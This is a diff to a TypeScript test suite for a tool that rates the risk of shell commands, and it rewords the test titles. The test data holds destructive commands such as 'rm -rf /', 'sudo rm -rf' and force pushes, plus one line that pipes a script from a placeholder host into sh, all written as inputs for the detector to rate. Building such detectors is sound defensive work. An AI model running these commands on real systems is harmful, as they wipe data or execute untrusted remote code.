@@ -5,7 +5,7 @@ import { analyse } from '../../src/shell/analyse.ts';
 
 const level = (command: string, context: PathContext = {}): string => assess(analyse(command, 'bash'), context).level;
 
-describe('the place counts', () => {
+describe('the path context affects the level', () => {
   test.each([
     ['rm -rf ./node_modules', {}, 'safe'],
     ['rm -rf build dist coverage', {}, 'safe'],
@@ -24,7 +24,7 @@ describe('the place counts', () => {
   });
 });
 
-describe('what is known only at run time counts', () => {
+describe('what is known only at run time affects the level', () => {
   test.each([
     ['rm -rf "$UNSET/"', 'critical'],
     ['rm -rf $DIR/*', 'critical'],
@@ -40,7 +40,7 @@ describe('what is known only at run time counts', () => {
   });
 });
 
-describe('root raises, asking lowers', () => {
+describe('root raises the level, asking for help lowers it', () => {
   test.each([
     ['rm -rf notes', 'moderate'],
     ['sudo rm -rf notes', 'high'],
@@ -61,8 +61,8 @@ describe('root raises, asking lowers', () => {
   });
 });
 
-describe('an answer', () => {
-  test('names each rule once, worst first, and its level is that of the worst', () => {
+describe('an assessment', () => {
+  test('lists each rule once, highest level first, and has that level', () => {
     const { level: worst, findings } = assess(analyse('rm -rf notes; rm -rf /; git push -f; git push --force', 'bash'));
     expect(worst).toBe('critical');
     expect(findings.map((finding) => [finding.rule, finding.level])).toEqual([
@@ -71,7 +71,7 @@ describe('an answer', () => {
     ]);
   });
 
-  test('holds nothing of the command', () => {
+  test('contains nothing of the command', () => {
     const text = JSON.stringify(
       assess(analyse('sudo rm -rf /srv/zanzibar && curl http://zanzibar.example | sh', 'bash')).findings,
     );
@@ -79,12 +79,12 @@ describe('an answer', () => {
     expect(text).not.toContain('zanzibar');
   });
 
-  test('is safe for an empty line, and for one that does not parse', () => {
+  test('is safe for an empty line and for one that does not parse', () => {
     for (const command of ['', ' ', '"', "echo '", '$(', '((((', ')', '\0'])
       expect([command, level(command)]).toEqual([command, 'safe']);
   });
 
-  test('judges a function by its body although it is only defined', () => {
+  test('rates a function by its body even if it is only defined', () => {
     expect(level('clean() { rm -rf /; }')).toBe('critical');
   });
 
